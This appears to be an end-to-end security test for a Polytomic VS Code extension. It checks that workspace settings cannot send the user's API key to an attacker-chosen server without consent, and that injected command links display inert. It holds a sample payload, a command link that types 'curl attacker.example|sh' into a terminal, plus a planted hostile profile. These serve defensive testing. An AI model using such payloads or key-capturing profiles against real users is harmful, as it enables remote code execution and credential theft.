// Issue 10 in a real VS Code, performed as an attacker would. A repository's workspace settings add a profile at an
// address it chose (a loopback server here, recording every request, stands in for https://attacker.example) and make
// it the default; POLYTOMIC_API_KEY is in the extension host's environment (the harness puts it there). Nothing may
// arrive with the key until the user says "Allow"; after "Don't Allow" nothing arrives at all. Then the command-link
// attack: an API error message, a connection name and an auth_url that carry `[x](command:...)` reach the user inert.
import * as assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import * as vscode from 'vscode';
import type { PolytomicExtensionApi } from '../../../client/src/extensionApi';
import type { TreeNode } from '../../../client/src/tree/connectionsTree';
import { apiKey, emulator, eventually, polytomic, ScriptedPrompts, writeWorkspaceFile } from './polytomicSupport';

/** VS Code's own pattern for links in notification text (src/vs/base/common/linkedText.ts). */
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^\)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const SEND_SEQUENCE = '[Retry](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20attacker.example%7Csh%5Cn%22%7D)';
const QUESTION = /^This workspace's settings point profile "(.+)" at (\S+): allow sending your Polytomic API key there\?/;

interface Recorded {
  method: string;
  url: string;
  authorization?: string;
}

/** The attacker's server: records every request, answers like Polytomic would (or as the test scripts). */
class RecordingServer {
  readonly requests: Recorded[] = [];
  answer: (req: Recorded) => { status: number; body: unknown } = (req) =>
    req.method === 'POST' ? { status: 200, body: { data: { id: 'c-attacker', name: 'Stolen', type: { id: 'postgresql' }, configuration: {} } } } : { status: 200, body: { data: [] } };
  private constructor(private readonly server: Server) {}

  static async start(): Promise<RecordingServer> {
    let recording: RecordingServer | undefined;
    const server = createServer((req, res) => {
      req.resume();
      req.on('end', () => {
        const recorded = { method: req.method ?? '', url: req.url ?? '', authorization: req.headers.authorization };
        recording!.requests.push(recorded);
        const { status, body } = recording!.answer(recorded);
        const text = JSON.stringify(body);
        res.writeHead(status, { 'content-type': 'application/json', 'content-length': Buffer.byteLength(text) });
        res.end(text);
      });
    });
    recording = new RecordingServer(server);
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    return recording;
  }

  get url(): string {
    return `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
  }

  withKey(): Recorded[] {
    return this.requests.filter((r) => r.authorization?.includes(apiKey()));
  }

  close(): Promise<void> {
    this.server.closeAllConnections();
    return new Promise((resolve) => this.server.close(() => resolve()));
  }
}

function noLinks(text: string): void {
  assert.deepEqual([...text.matchAll(VSCODE_LINK)].map((m) => m[0]), [], text);
}

const config = () => vscode.workspace.getConfiguration('polytomic');
const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** Forgets this workspace's Switch Profile choice, through the user's own commands, so that defaultProfile decides. */
async function forgetWorkspaceChoice(prompts: ScriptedPrompts): Promise<void> {
  const temp = { name: 'e2e-trust-temp', baseUrl: 'http://127.0.0.1:9', keyKind: 'user', apiVersion: '2025-09-18' };
  const user = (config().inspect('profiles')?.globalValue as unknown[]) ?? [];
  await config().update('profiles', [...user, temp], vscode.ConfigurationTarget.Global);
  assert.equal(await vscode.commands.executeCommand('polytomic.switchProfile', temp.name), temp.name);
  prompts.pickAnswers.push((items) => items.find((i) => i.label === temp.name));
  prompts.confirmAnswer = (message) => message === `Remove profile "${temp.name}"?`;
  await vscode.commands.executeCommand('polytomic.removeProfile');
  assert.deepEqual(((config().inspect('profiles')?.globalValue as { name: string }[]) ?? []).map((p) => p.name), ['emulator']);
}

/** The attack: the workspace's settings define a profile at `url` and make it the default. */
async function plantWorkspaceProfile(name: string, url: string): Promise<void> {
  await config().update('profiles', [{ name, baseUrl: url, keyKind: 'user', apiVersion: '2025-09-18' }], vscode.ConfigurationTarget.Workspace);
  await config().update('defaultProfile', name, vscode.ConfigurationTarget.Workspace);
}

async function removeWorkspaceProfiles(): Promise<void> {
  await config().update('defaultProfile', undefined, vscode.ConfigurationTarget.Workspace);
  await config().update('profiles', undefined, vscode.ConfigurationTarget.Workspace);
}

describe('a workspace cannot send your API key where it chooses (issue 10)', () => {
  let api: PolytomicExtensionApi;
  const servers: RecordingServer[] = [];

  before(async () => {
    api = await polytomic();
  });

  after(async () => {
    await removeWorkspaceProfiles();
    api.resetPrompts();
    await Promise.all(servers.map((s) => s.close()));
  });

  it('"Don\'t Allow": the workspace profile at the attacker\'s address gets nothing, at activation or from commands', async () => {
    const server = await RecordingServer.start();
    servers.push(server);
    const prompts = new ScriptedPrompts();
    prompts.install(api);
    const questions: string[] = [];
    prompts.notifyAnswer = (message) => (QUESTION.test(message) ? (questions.push(message), "Don't Allow") : undefined);
    prompts.chooseAnswer = (message) => (questions.push(message), "Don't Allow");
    await forgetWorkspaceChoice(prompts);

    await plantWorkspaceProfile('e2e-attacker', server.url);
    const active = await api.activeProfile();
    assert.deepEqual(active && { name: active.name, keySource: active.keySource }, { name: 'e2e-attacker', keySource: 'environment' }, 'the attack is set up: the environment key would be used');

    // The catalog warm-up starts on its own when the profile changes: it asks instead of sending.
    await eventually(() => (questions.length > 0 ? true : undefined), 'the question about the workspace profile');
    assert.equal(QUESTION.exec(questions[0])?.[1], 'e2e-attacker');
    assert.equal(QUESTION.exec(questions[0])?.[2], server.url);
    await eventually(() => (JSON.parse(api.stateSnapshot()).globalState['polytomic.workspaceProfileDecisions'] ? true : undefined), 'the answer to be kept');

    // Commands that talk to the API are refused with the reason, and ask no more.
    for (const command of ['polytomic.refreshConnectionTypes', 'polytomic.refresh']) await vscode.commands.executeCommand(command);
    await api.refreshTree();
    const refused = prompts.notifications.find((n) => n.message.startsWith('Nothing was sent'));
    assert.ok(refused, JSON.stringify(prompts.notifications));
    assert.match(refused.message, /Nothing was sent: profile "e2e-attacker" comes from this workspace's settings and points at http:\/\/127\.0\.0\.1:\d+, and you did not allow it/);
    assert.deepEqual(refused.actions, ['Switch Profile']);
    const [message] = api.treeChildren();
    assert.ok(message?.kind === 'message' && /Nothing was sent/.test(message.text), 'the tree says why it is empty');

    await pause(500);
    assert.equal(server.requests.length, 0, 'not one request reached the attacker\'s server');
    assert.equal(questions.length, 1, 'asked once');
    const state = api.stateSnapshot();
    assert.ok(!state.includes(apiKey()), 'the kept answer holds no key');
  });

  it('no request carries the key until the confirmation says "Allow"; then the workspace profile works', async () => {
    const server = await RecordingServer.start();
    servers.push(server);
    const prompts = new ScriptedPrompts();
    prompts.install(api);
    const backgroundQuestions: string[] = [];
    // The background question is dismissed: nothing may be sent while it is unanswered.
    prompts.notifyAnswer = (message) => (QUESTION.test(message) ? (backgroundQuestions.push(message), undefined) : undefined);
    let requestsWhenAsked = -1;
    prompts.chooseAnswer = (message, detail) => {
      assert.match(message, QUESTION);
      assert.match(detail, /Allow only if you trust http:\/\/127\.0\.0\.1:\d+/);
      requestsWhenAsked = server.requests.length;
      return 'Allow';
    };

    await plantWorkspaceProfile('e2e-attacker-allowed', server.url);
    await eventually(() => (backgroundQuestions.length > 0 ? true : undefined), 'the background question');
    await pause(500);
    assert.equal(server.requests.length, 0, 'nothing was sent while the question was open');

    await vscode.commands.executeCommand('polytomic.refreshConnectionTypes');
    assert.equal(requestsWhenAsked, 0, 'the modal was asked before the first request');
    // The command's type list, and (woken by the answer) the background work: all with the key, all after "Allow".
    const withKey = server.withKey();
    assert.ok(withKey.some((r) => r.url === '/api/connection_types'), JSON.stringify(server.requests.map((r) => r.url)));
    assert.equal(withKey[0].authorization, `Bearer ${apiKey()}`);
    assert.equal(withKey.length, server.requests.length, 'once allowed, every request carries the key');
    assert.ok(prompts.notifications.some((n) => /^Connection types refreshed from e2e-attacker-allowed/.test(n.message)), JSON.stringify(prompts.notifications));

    // Allowed once for this workspace: the next command asks nothing.
    prompts.chooseAnswer = () => assert.fail('asked again');
    await api.refreshTree();
    assert.ok(server.requests.some((r) => r.url === '/api/connections'));
  });

  it('an API error message with a command link is shown inert', async () => {
    const server = servers[servers.length - 1];
    const prompts = new ScriptedPrompts();
    prompts.install(api);
    server.answer = () => ({ status: 422, body: { status: 422, message: `Your API key expired. ${SEND_SEQUENCE}\nClick to renew.` } });
    await vscode.commands.executeCommand('polytomic.refreshConnectionTypes');
    const shown = prompts.notifications.find((n) => n.kind === 'error');
    assert.ok(shown, JSON.stringify(prompts.notifications));
    assert.match(shown.message, /^Refresh connection types failed: .*Your API key expired\. \[Retry\] \(command:workbench\.action\.terminal\.sendSequence/);
    noLinks(shown.message);
    assert.ok(!shown.message.includes('\n'));
  });

  it('an auth_url that is not https:// is not offered: Create says so instead', async () => {
    const server = servers[servers.length - 1];
    const prompts = new ScriptedPrompts();
    prompts.install(api);
    server.answer = (req) =>
      req.method === 'POST'
        ? { status: 200, body: { data: { id: 'c-oauth-1', name: 'OAuth', type: { id: 'postgresql' }, configuration: {}, auth_url: 'command:workbench.action.terminal.sendSequence?%7B%7D' } } }
        : { status: 200, body: { data: [] } };
    const uri = await writeWorkspaceFile(
      'connections/e2e-trust-oauth.polytomic.json',
      JSON.stringify({ name: 'OAuth', type: 'postgresql', configuration: { hostname: 'db.example.com', port: 5432, database: 'd', username: 'u', password: 'p' } }, null, 2),
    );
    try {
      assert.equal(await vscode.commands.executeCommand('polytomic.createConnection', uri), 'c-oauth-1');
      const created = await eventually(() => prompts.notifications.find((n) => n.message.startsWith('Created connection "OAuth"')), 'the created notification');
      assert.deepEqual(created.actions, ['Open in Polytomic'], 'no "Authorize in Browser" for a command: address');
      assert.match(created.message, /Polytomic sent an address to open that is not https:\/\/ \(it starts with command:\); it was not opened\./);
    } finally {
      await vscode.workspace.fs.delete(uri);
    }
  });

  it('a connection name with a command link reaches the notification inert (the emulator, your own profile)', async () => {
    await removeWorkspaceProfiles();
    assert.equal((await api.activeProfile())?.name, 'emulator');
    const prompts = new ScriptedPrompts();
    prompts.install(api);
    const created = await emulator('POST', '/api/connections', {
      name: `Orders ${SEND_SEQUENCE}`,
      type: 'postgresql',
      configuration: { hostname: 'db.example.com', port: 5432, database: 'd', username: 'u', password: 'p' },
      validate: false,
    });
    assert.equal(created.status, 200, JSON.stringify(created.body));
    try {
      await api.refreshTree();
      const node = api
        .treeChildren()
        .flatMap((n) => (n.kind === 'group' ? api.treeChildren(n) : [n]))
        .find((n): n is Extract<TreeNode, { kind: 'connection' }> => n.kind === 'connection' && n.connection.id === created.body.data.id);
      assert.ok(node, 'the connection is in the tree');
      await vscode.commands.executeCommand('polytomic.openConnection', node);
      const shown = prompts.lastNotification();
      assert.ok(shown && shown.message.endsWith('has no file in this workspace.'), JSON.stringify(prompts.notifications));
      assert.match(shown.message, /^"Orders \[Retry\] \(command:/);
      noLinks(shown.message);
      const tooltip = (api.treeItem(node).tooltip as vscode.MarkdownString).value;
      assert.ok(!tooltip.includes(`](command:`), tooltip);
    } finally {
      await emulator('DELETE', `/api/connections/${created.body.data.id}?force=true`);
    }
  });
});
